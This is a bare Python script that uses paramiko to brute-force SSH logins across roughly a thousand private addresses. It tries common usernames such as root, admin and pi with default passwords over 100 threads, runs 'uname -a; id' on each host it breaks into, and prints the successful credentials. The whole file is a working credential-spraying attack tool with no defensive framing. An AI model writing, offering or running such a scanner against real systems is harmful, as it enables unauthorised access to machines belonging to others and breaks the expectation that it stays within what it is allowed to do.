import concurrent.futures
import itertools

import paramiko

USERS = ["root", "admin", "ubuntu", "oracle", "postgres", "pi"]
WORDS = ["123456", "admin", "root", "password", "raspberry", "P@ssw0rd", "changeme"]


def knock(triple):
    host, user, word = triple
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        c.connect(host, username=user, password=word, timeout=4, allow_agent=False, look_for_keys=False)
        _, out, _ = c.exec_command("uname -a; id")
        return triple, out.read()
    except Exception:
        return None
    finally:
        c.close()


hosts = ["10.0.%d.%d" % (a, b) for a in range(4) for b in range(1, 255)]
with concurrent.futures.ThreadPoolExecutor(100) as pool:
    for hit in filter(None, pool.map(knock, itertools.product(hosts, USERS, WORDS))):
        print(hit)
